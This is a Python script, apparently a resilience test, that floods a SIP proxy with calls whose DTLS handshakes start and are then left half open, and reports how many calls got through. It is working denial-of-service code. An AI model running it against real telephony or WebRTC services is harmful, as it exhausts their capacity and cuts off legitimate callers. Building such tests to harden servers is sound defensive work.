#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Calls whose handshakes begin and never end, to use up those that may be half open.

  dtls_stall.py sink  --local A:P --proxy A:P      registers sink@example.test, answers all calls
  dtls_stall.py stall --local A:P --proxy A:P --calls N --seconds S
      calls the sink N times; each call passes ICE, sends a ClientHello, and leaves it at that.
      Hangs up after S seconds; prints a line of JSON: answered calls, ICE checks that succeeded, and
      handshakes that were begun (answered by a ServerHello).
"""
import argparse
import asyncio
import hashlib
import hmac
import json
import os
import re
import socket
import struct
import sys
import time
import zlib

from dtls_attack import client_hello
from webphone import Message, endpoint, token, uri_of

FINGERPRINT = "sha-256 " + ":".join(["AB"] * 32)


def stun_check(user, password):
    """A nominating check (RFC 8445 7.2.2, 8.1.1)."""
    def attribute(kind, value):
        return struct.pack("!HH", kind, len(value)) + value + b"\0" * (-len(value) % 4)

    body = attribute(6, user.encode()) + attribute(0x24, struct.pack("!I", 0x7e0000ff))
    body += attribute(0x802a, os.urandom(8)) + attribute(0x25, b"")

    def head(extra):
        return struct.pack("!HHI", 1, len(body) + extra, 0x2112a442) + identity

    identity = os.urandom(12)
    body += attribute(8, hmac.new(password.encode(), head(24) + body, hashlib.sha1).digest())
    return head(8) + body + attribute(0x8028, struct.pack(
        "!I", zlib.crc32(head(8) + body) ^ 0x5354554e))


class Caller(asyncio.DatagramProtocol):
    """The signalling of all calls."""

    def __init__(self, args):
        self.args, self.calls = args, {}

    def connection_made(self, transport):
        self.transport = transport

    def send(self, method, call, to, target, cseq, body="", route=()):
        headers = [("Via", f"SIP/2.0/UDP {self.args.local};branch=z9hG4bK{token()}"),
                   ("Max-Forwards", "70"), ("From", f"<sip:stall@example.test>;tag={call}"),
                   ("To", to), ("Call-ID", call), ("CSeq", f"{cseq} {method}"),
                   ("Contact", f"<sip:stall@{self.args.local}>")]
        headers += [("Route", r) for r in route]
        if body:
            headers.append(("Content-Type", "application/sdp"))
        self.transport.sendto(Message(f"{method} {target} SIP/2.0", headers, body).bytes(),
                              endpoint(self.args.proxy))

    def datagram_received(self, data, addr):
        message = Message.parse(data)
        call = self.calls.get(message.get("call-id"))
        if not call or message.method != "INVITE" or not 200 <= message.status < 300:
            return
        if not call.done():
            call.set_result(message)
        self.send("ACK", message.get("call-id"), message.get("to"),
                  uri_of(message.get("contact")), 1, route=reversed(message.all("record-route")))


def offer(host, port, ufrag):
    return "\r\n".join([
        "v=0", f"o=- 1 1 IN IP4 {host}", "s=-", "t=0 0", f"m=audio {port} UDP/TLS/RTP/SAVPF 8",
        f"c=IN IP4 {host}", "a=rtcp-mux", f"a=ice-ufrag:{ufrag}", f"a=ice-pwd:{token(24)}",
        f"a=candidate:1 1 udp 2130706431 {host} {port} typ host", f"a=fingerprint:{FINGERPRINT}",
        "a=setup:actpass", "a=rtpmap:8 PCMA/8000", "a=sendrecv", ""])


def receives(sock, first, seconds):
    """Does a datagram come whose first byte is one of these?"""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sock.settimeout(max(end - time.monotonic(), 0.01))
        try:
            if sock.recv(4096)[0] in first:
                return True
        except socket.timeout:
            return False
    return False


def begin_handshake(sock, sdp, ufrag):
    """How far it comes: 0 without ICE, 1 with it, 2 with an answer to the ClientHello."""
    found = {name: re.search(rf"a={name}:(\S+)", sdp).group(1) for name in ("ice-ufrag", "ice-pwd")}
    at = (re.search(r"c=IN IP4 (\S+)", sdp).group(1), int(re.search(r"m=audio (\d+)", sdp).group(1)))
    for _ in range(5):
        sock.sendto(stun_check(f"{found['ice-ufrag']}:{ufrag}", found["ice-pwd"]), at)
        if receives(sock, (1,), 0.3):
            break
    else:
        return 0
    time.sleep(0.02)
    hello = client_hello()
    for _ in range(2):
        sock.sendto(hello, at)
        if receives(sock, (22,), 0.3):
            return 2
    return 1


async def stall(args):
    loop = asyncio.get_running_loop()
    _, sip = await loop.create_datagram_endpoint(lambda: Caller(args), local_addr=endpoint(args.local))
    host, report, open_calls = endpoint(args.local)[0], {"answered": 0, "ice": 0, "begun": 0}, []
    for _ in range(args.calls):
        call, ufrag, sock = token(), token(4), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((host, 0))
        sip.calls[call] = loop.create_future()
        sip.send("INVITE", call, "<sip:sink@example.test>", "sip:sink@example.test", 1,
                 offer(host, sock.getsockname()[1], ufrag))
        try:
            answer = await asyncio.wait_for(sip.calls[call], 5)
        except asyncio.TimeoutError:
            continue
        report["answered"] += 1
        open_calls.append((call, answer, sock))
        far = await loop.run_in_executor(None, begin_handshake, sock, answer.body, ufrag)
        report["ice"] += far > 0
        report["begun"] += far > 1
    print(json.dumps(report), flush=True)
    await asyncio.sleep(args.seconds)
    for call, answer, _ in open_calls:
        sip.send("BYE", call, answer.get("to"), uri_of(answer.get("contact")), 2,
                 route=reversed(answer.all("record-route")))
        await asyncio.sleep(0.005)
    await asyncio.sleep(1)


class Sink(asyncio.DatagramProtocol):
    def __init__(self, args):
        self.args = args

    def connection_made(self, transport):
        self.transport = transport
        headers = [("Via", f"SIP/2.0/UDP {self.args.local};branch=z9hG4bK{token()}"),
                   ("Max-Forwards", "70"), ("From", f"<sip:sink@example.test>;tag={token()}"),
                   ("To", "<sip:sink@example.test>"), ("Call-ID", token()), ("CSeq", "1 REGISTER"),
                   ("Contact", f"<sip:sink@{self.args.local}>"), ("Expires", "300")]
        transport.sendto(Message("REGISTER sip:example.test SIP/2.0", headers).bytes(),
                         endpoint(self.args.proxy))

    def datagram_received(self, data, addr):
        request = Message.parse(data)
        if request.status or request.method == "ACK":
            return
        host = endpoint(self.args.local)[0]
        headers = [(name.title(), value) for name in ("via", "record-route", "from", "call-id", "cseq")
                   for value in request.all(name)]
        to = request.get("to")
        headers += [("To", to if "tag=" in to else to + ";tag=sink"),
                    ("Contact", f"<sip:sink@{self.args.local}>")]
        body = ""
        if request.method == "INVITE":
            headers.append(("Content-Type", "application/sdp"))
            body = "\r\n".join(["v=0", f"o=- 1 1 IN IP4 {host}", "s=-", f"c=IN IP4 {host}", "t=0 0",
                                "m=audio 9000 RTP/AVP 8", "a=rtpmap:8 PCMA/8000", ""])
        self.transport.sendto(Message("SIP/2.0 200 OK", headers, body).bytes(), addr)


async def sink(args):
    await asyncio.get_running_loop().create_datagram_endpoint(lambda: Sink(args),
                                                              local_addr=endpoint(args.local))
    await asyncio.sleep(args.seconds)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("how", choices=("sink", "stall"))
    parser.add_argument("--local", required=True)
    parser.add_argument("--proxy", required=True)
    parser.add_argument("--calls", type=int, default=60)
    parser.add_argument("--seconds", type=float, default=20)
    args = parser.parse_args()
    sys.exit(asyncio.run(sink(args) if args.how == "sink" else stall(args)))


if __name__ == "__main__":
    main()
